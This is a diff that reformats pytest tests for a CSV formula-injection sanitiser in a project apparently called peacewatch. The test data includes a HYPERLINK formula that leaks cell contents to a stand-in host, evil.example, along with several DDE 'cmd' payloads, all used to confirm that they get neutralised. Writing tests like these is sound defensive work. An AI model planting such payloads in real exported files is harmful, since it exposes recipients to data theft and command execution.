@@ -13,8 +13,18 @@ from peacewatch.csvsafe import neutralise, safe_frame, safe_row, to_csv
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Ahmed Karimov")'
 
 
-@pytest.mark.parametrize("cell", [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                                  "\t=1+1", "\r=1+1", "\uff1d1+1"])
+@pytest.mark.parametrize(
+    "cell",
+    [
+        EVIL,
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\uff1d1+1",
+    ],
+)
 def test_formula_cells_get_an_apostrophe(cell):
     assert neutralise(cell) == "'" + cell
 
@@ -25,8 +35,9 @@ def test_plain_text_and_numbers_are_untouched(cell):
 
 
 def test_frames_keep_numeric_columns_numeric():
-    df = pd.DataFrame({"name": [EVIL, "Anna Berg"], "score": [-0.5, 0.9], "n": [-3, 4]},
-                      index=pd.Index(["@x", "y"], name="key"))
+    df = pd.DataFrame(
+        {"name": [EVIL, "Anna Berg"], "score": [-0.5, 0.9], "n": [-3, 4]}, index=pd.Index(["@x", "y"], name="key")
+    )
     out = safe_frame(df)
     assert out["name"].tolist() == ["'" + EVIL, "Anna Berg"]
     assert out["score"].dtype == float and out["score"].tolist() == [-0.5, 0.9]
@@ -44,10 +55,11 @@ def test_rows_for_the_csv_module():
 
 def test_web_csv_download_is_neutralised():
     from peacewatch.web.templating import csv_response
+
     body = csv_response([{"country": EVIL, "value": -1.5}], ["country", "value"], "x.csv").body.decode()
     assert body.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Ahmed Karimov"")",-1.5'
 
 
 def test_series_are_neutralised_too():
     s = pd.Series([3, 4], index=pd.Index([EVIL, "Tier 1"], name="tier"), name="count")
-    assert to_csv(s).splitlines()[1].startswith('"\'=HYPERLINK')
+    assert to_csv(s).splitlines()[1].startswith("\"'=HYPERLINK")
